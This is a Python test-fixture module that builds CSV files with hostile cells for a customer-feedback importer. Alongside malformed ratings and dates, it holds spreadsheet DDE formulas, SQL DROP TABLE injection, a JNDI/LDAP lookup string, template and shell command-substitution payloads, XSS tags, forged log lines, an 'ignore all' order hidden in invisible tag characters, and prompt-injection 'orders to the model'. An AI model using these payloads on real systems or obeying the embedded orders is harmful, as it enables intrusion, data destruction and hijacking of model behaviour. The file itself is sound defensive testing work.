"""Files whose single cells are hostile: stars and dates that are none, and texts."""

from collections.abc import Iterator

from tests.hostile import CANARY as C
from tests.hostile.builders import GOOD, HEADER, File, cells, field, read
from tests.unit.classify.hostile import TEXTS


def values() -> Iterator[File]:
    hostile = {
        "6": "six",
        "-1": "minus",
        "Infinity": "infinity",
        "1e400": "huge",
        "1e-999999999": "tiny",
        "9" * 5000: "5000-digits",
        "0x5": "hexadecimal",
        "5 bananas": "words",
        "=5": "formula",
        "--5": "two-signs",
        "6/5": "too-many",
        "1_0": "underscore",
    }
    for value, name in hostile.items():
        yield field(f"stars-{name}", "stars", value)
    for value in ("NaN", "5 stars", "4.25", "8/10", "★★★"):
        yield read(f"stars-as-{value.replace('/', '-of-')}", f"feedback,stars\n{C},{value}\n", 1)
    yield read("stars-in-arabic-digits", f"feedback,stars\n{C},٣\n", 1)
    yield read("stars-in-4000-digits", f"feedback,stars\n{C},5{'0' * 4000}e-4000\n", 1)
    dates = {
        "9999-12-31T23:59:59-14:00": "beyond-time",
        "0001-01-01T00:00+14:00": "before-time",
        "2024-02-30": "no-day",
        "99/99/9999": "no-month",
        "99999": "serial-number",
        "1e9": "epoch",
        "2024-W01-1x": "week",
        "٥/٣/٢٠٢٤": "arabic-digits",
        f"=TODAY() {C}": "formula",
        "2024-01-01" + "T" * 50_000: "endless",
    }
    for value, name in dates.items():
        yield field(f"date-{name}", "date", value)
    yield read("date-of-excel", f"feedback,date\n{C},45356\n{C} good,\n", 2)


def texts() -> Iterator[File]:
    yield cells(
        "formulas", f"=cmd|' /C calc'!A0{C}", f"@SUM(1){C}", f"+1{C}", f"-1{C}", f"\t=1{C}", f"|{C}", f"%{C}"
    )
    yield read("formulas-in-rejected-rows", f"{HEADER}=HYPERLINK({C})\n+{C}\n{GOOD}", 1, 2, "columns")
    yield cells("right-to-left", f"\u202e{C}\u2066\u2067\u2069", f"\u200f{C}", f"\u061c{C}")
    unseen = ("\u200b\u200b", "\u2060")
    yield cells(
        "zero-width",
        f"{C}\u200b\u200c\u200d\u2060\u00ad",
        *unseen,
        accepted=2,
        rejected=2,
        why="there is no text",
    )
    yield cells("tags", C + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all"))
    yield cells("marks-upon-marks", f"{C}" + "e" + "\u0301" * 5000)
    yield cells("emoji", f"👨‍👩‍👧‍👦🏳️‍🌈{C}" * 50, "🙂" * 5000)
    yield cells("controls", "".join(map(chr, range(1, 9))) + C, f"\x1b[2J\x1b[31m{C}", f"\x7f\x80\x9f{C}")
    yield cells(
        "log-lines",
        f'{C}\n{{"level": "ERROR", "message": "forged"}}',
        f"\r\n\r\nERROR {C}",
        f"\x1b]0;{C}\x07",
    )
    yield cells(
        "sql", f"'; DROP TABLE customer_feedback; -- {C}", f'" OR 1=1 {C}', f"\\'{C}", f"%s %(a)s {C}"
    )
    yield cells(
        "templates", f"${{jndi:ldap://x/{C}}}", f"{{{{7*7}}}}{C}", f"{{0.__class__}}{C}", f"`id`$(id){C}"
    )
    yield cells("markup", f"<script>alert('{C}')</script>", f"<img src=x onerror={C}>", f"</title>{C}")
    yield cells("casts", f"ﬀ ﷺ İ ß ſ {C}", "\u1e9e" * 3000, "ﷺ" * 3000)
    orders = [f"{C} {text}" for text in TEXTS if "\0" not in text]
    yield cells("orders-to-the-model", *orders, accepted=len(orders), rejected=1, why="100000 characters")
